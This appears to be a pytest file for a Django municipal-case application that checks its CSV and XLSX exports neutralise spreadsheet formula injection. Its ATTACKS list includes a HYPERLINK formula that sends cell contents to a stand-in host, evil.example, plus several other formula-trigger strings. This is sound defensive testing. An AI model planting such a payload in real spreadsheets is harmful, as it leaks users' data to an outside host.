"""Spreadsheet formula injection: every export writes text through ``luoshi.lib.export``.

The attack: a title typed in the public form, an Open311 POST or a ledger is ``=HYPERLINK(…)``;
a spreadsheet program would run it. Each export must write it as text starting with ``'``.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from luoshi.lib.export import csv_writer, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2", "@SUM(1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_text_cell_that_would_run_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [12, -2, 3.5, Decimal("-1.5"), None, True, "普通标题", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_csv_writer_neutralises_every_field():
    buf = io.StringIO()
    csv_writer(buf).writerow([*ATTACKS, -2])
    row = next(csv.reader(io.StringIO(buf.getvalue())))
    assert row[:-1] == ["'" + a for a in ATTACKS] and row[-1] == "-2"


def _cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_no_formula(cells, expected_texts):
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    for text in expected_texts:
        assert "'" + text in values, text


@pytest.mark.django_db
def test_case_export_writes_formula_titles_as_text(org, client_for):
    from luoshi.cases import services

    for title in ATTACKS:
        services.case_create(
            case_type="public", actor=None, actor_label="测试", town=org.towns[0], title=title, content="内容"
        )
    resp = client_for("office").get(reverse("cases:export"), {"queue": "all"})
    _assert_no_formula(_cells(resp.content), {a.strip() for a in ATTACKS})  # intake strips the title


@pytest.mark.django_db
def test_plan_export_writes_formula_names_as_text(org, client_for):
    import datetime as dt

    from luoshi.plans import services
    from luoshi.plans.models import Item

    plan = services.plan_create(town=org.towns[0], year=dt.date.today().year, by=org.users["office"])
    for name in ATTACKS:
        services.item_create(plan=plan, by=org.users["office"], kind=Item.Kind.TASK, name=name)
        services.project_create(plan=plan, by=org.users["office"], name=name, investor="@SUM(1)")
    resp = client_for("office").get(reverse("plans:export", args=[plan.pk]))
    cells = _cells(resp.content)
    _assert_no_formula(cells, [*ATTACKS[:4], "@SUM(1)"])  # item names are indented, project names not
    assert any(c.value == "'\t=1" for c in cells)


@pytest.fixture
def report_with_attacks(org):
    from luoshi.reports.tests.test_web_reports import store

    report = store(org)
    facts = list(report.facts.order_by("seq")[: len(ATTACKS)])
    for fact, text in zip(facts, ATTACKS, strict=True):
        fact.metric = text
        fact.save()
    return report


@pytest.mark.django_db
def test_report_facts_csv_and_xlsx_write_formula_metrics_as_text(report_with_attacks, client_for):
    c = client_for("office")
    resp = c.get(reverse("reports:export_csv", args=[report_with_attacks.pk]))
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    metrics = {row[4] for row in rows[1:]}
    assert {"'" + a for a in ATTACKS[:5]} <= metrics
    assert not any(m.startswith(("=", "+", "-", "@", "\t", "\r")) for m in metrics)
    xlsx = c.get(reverse("reports:export_xlsx", args=[report_with_attacks.pk]))
    _assert_no_formula(_cells(xlsx.content), ATTACKS[:5])


@pytest.mark.django_db
def test_report_compare_csv_writes_formula_metrics_as_text(report_with_attacks, org, client_for):
    from luoshi.reports.tests.test_web_reports import BAILU, store

    other = store(org, BAILU, town=0)
    resp = client_for("office").get(
        reverse("reports:compare"), {"ids": [report_with_attacks.pk, other.pk], "format": "csv"}
    )
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
